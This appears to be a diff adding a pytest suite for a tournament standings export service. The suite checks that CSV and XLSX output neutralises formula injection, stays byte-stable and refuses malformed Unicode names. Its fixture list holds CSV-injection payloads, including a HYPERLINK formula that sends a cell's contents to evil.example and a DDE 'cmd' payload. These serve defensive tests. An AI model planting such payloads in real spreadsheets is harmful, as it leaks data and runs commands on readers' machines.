@@ -1,0 +1,162 @@
+"""Issue 16, standings written back: no live formulas (OWASP CSV injection), byte-stable streamed XLSX,
+names normalised and refused as service.core.names says, encoders that never raise, content negotiation."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import time
+import zipfile
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from service.core.names import BadName, normalise_name
+from service.tournaments import sheets
+from service.tournaments.rows import BadRows, read_results, table_from_records
+from service.tournaments.sheets import standings_csv, standings_xlsx
+from service.tournaments.standings import standings
+
+URL = "/v1/24-kings/tournaments/standings"
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+# OWASP "CSV Injection": a cell beginning with = + - @ (tab and CR are control characters, refused in names)
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def hostile_standings():
+    rows = [{"game": game, "player": name, "points": index} for index, name in enumerate(HOSTILE) for game in ("=1+1", "2")]
+    return standings(read_results(table_from_records(rows)))
+
+
+def test_csv_cells_that_would_run_as_formulas_are_text():
+    rows = list(csv.reader(io.StringIO(standings_csv(hostile_standings()).decode())))
+    players = {row[1] for row in rows[1:]}
+    assert players == {"'" + name for name in HOSTILE}
+    assert rows[0][7:] == ["game =1+1", "game 2"]  # the header cell begins with "game": it cannot run
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row if not _is_number(cell))
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_negative_points_stay_numbers_and_fractions_are_text_that_cannot_run():
+    result = standings(read_results(table_from_records([{"game": "1", "player": "ann", "points": -4}, {"game": "1", "player": "bob", "points": 2}])))
+    rows = list(csv.reader(io.StringIO(standings_csv(result).decode())))
+    assert rows[2][2] == "-4"
+    assert sheets.neutral("-7/6") == "'-7/6" and sheets.neutral(-4) == -4 and sheets.neutral("ann") == "ann"
+    assert [sheets.neutral(c + "x") for c in "=+-@\t\r"] == ["'" + c + "x" for c in "=+-@\t\r"]
+
+
+def test_xlsx_cells_are_strings_never_formulas():
+    data = standings_xlsx(hostile_standings())
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+    cells = [cell for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)
+    assert {cell.value for cell in cells if cell.column == 2 and cell.row > 1} == {"'" + name for name in HOSTILE}
+    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
+
+
+def test_xlsx_is_byte_stable(monkeypatch):
+    result = hostile_standings()
+    first = standings_xlsx(result)
+    later = time.time() + 86_400 * 400  # a year and a month later: every date and time in the archive would differ
+    monkeypatch.setattr(time, "time", lambda: later)
+    assert standings_xlsx(result) == first
+    with zipfile.ZipFile(io.BytesIO(first)) as archive:
+        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+        assert b"2000-01-01T00:00:00Z" in archive.read("docProps/core.xml")
+
+
+def test_xlsx_is_written_in_write_only_mode(monkeypatch):
+    made = []
+
+    def spy(*args, **kwargs):
+        made.append(kwargs.get("write_only", False))
+        return openpyxl.Workbook(*args, **kwargs)
+
+    monkeypatch.setattr(sheets, "Workbook", spy)
+    standings_xlsx(hostile_standings())
+    assert made == [True]
+
+
+@pytest.mark.parametrize(
+    ("player", "code"),
+    [
+        ("ann\u202e", "name_bidi_control"),
+        ("a\u200bnn", "name_zero_width"),
+        ("ann\x07", "name_control_character"),
+        ("ann\ufffe", "name_noncharacter"),
+        ("x" * 65, "name_too_long"),
+    ],
+)
+def test_names_in_rows_are_refused_as_names_py_refuses_them(client, player, code):
+    problem = client.post(URL, json={"rows": [{"game": "1", "player": "bob", "points": 1}, {"game": "1", "player": player, "points": 2}]}).get_json()
+    assert problem["status"] == 422 and [(e["row"], e["column"], e["code"]) for e in problem["errors"]] == [(1, "player", code)]
+    game = client.post(URL, json={"rows": [{"game": "1" + player, "player": "bob", "points": 1}]}).get_json()
+    assert [(e["column"], e["code"]) for e in game["errors"]] == [("game", code)]
+
+
+def test_a_name_spelled_two_ways_is_one_player():
+    rows = [{"game": "1", "player": "Zoe\u0308", "points": 3}, {"game": "2", "player": "Zo\u00eb", "points": 4}, {"game": "2", "player": " bob ", "points": 1}]
+    table = standings(read_results(table_from_records(rows))).table
+    assert [(s.player, s.total, s.games) for s in table] == [("Zo\u00eb", 7, 2), ("bob", 1, 1)]
+    with pytest.raises(BadRows, match="already has a row"):
+        read_results(table_from_records([{"game": "1", "player": "Zoe\u0308", "points": 3}, {"game": "1", "player": "Zo\u00eb", "points": 4}]))
+
+
+def accepted(text: str) -> bool:
+    try:
+        normalise_name(text)
+    except BadName:
+        return False
+    return True
+
+
+NAMES = st.text(min_size=1, max_size=64).filter(accepted)
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
+@given(st.lists(NAMES, min_size=1, max_size=4, unique_by=normalise_name), NAMES)
+def test_every_encoder_writes_every_accepted_name(players, game):
+    """Whatever normalise_name accepts, JSON, CSV and XLSX write, and read back as the same name."""
+    rows = [{"game": game, "player": name, "points": index} for index, name in enumerate(players)]
+    result = standings(read_results(table_from_records(rows)))
+    names = {normalise_name(name) for name in players}
+    assert {s["player"] for s in json.loads(json.dumps(result.to_dict(), ensure_ascii=False))["standings"]} == names
+    written = list(csv.reader(io.StringIO(standings_csv(result).decode("utf-8"), newline="")))
+    assert {row[1].removeprefix("'") if normalise_name(row[1].removeprefix("'")) in names else row[1] for row in written[1:]} == names
+    sheet = load_workbook(io.BytesIO(standings_xlsx(result))).worksheets[0]
+    assert {
+        str(row[1]).removeprefix("'") if str(row[1]).startswith("'") and str(row[1])[1:] in names else row[1]
+        for row in sheet.iter_rows(min_row=2, values_only=True)
+    } == names
+
+
+def test_vary_accept_and_406(client):
+    sheet = b"game,player,points\n1,ann,3\n1,bob,-1\n"
+    for accept, mimetype in (
+        ("application/json", "application/json"),
+        ("text/csv", "text/csv"),
+        (XLSX, XLSX),
+        ("*/*", "application/json"),
+        ("text/*", "text/csv"),
+    ):
+        response = client.post(URL, data=sheet, content_type="text/csv", headers={"Accept": accept})
+        assert response.status_code == 200 and response.mimetype == mimetype and "Accept" in response.headers.get("Vary", ""), accept
+    refused = client.post(URL, data=sheet, content_type="text/csv", headers={"Accept": "text/html"})
+    assert refused.status_code == 406 and refused.mimetype == "application/problem+json" and "Accept" in refused.headers["Vary"]
+    assert refused.get_json()["errors"][0]["code"] == "not_acceptable"
+    chosen = client.post(URL + "?format=csv", data=sheet, content_type="text/csv", headers={"Accept": "text/html"})
+    assert chosen.status_code == 200 and chosen.mimetype == "text/csv"  # ?format= chooses whatever Accept says
+    assert client.post(URL, data=sheet, content_type="text/csv").mimetype == "application/json"  # no Accept: JSON
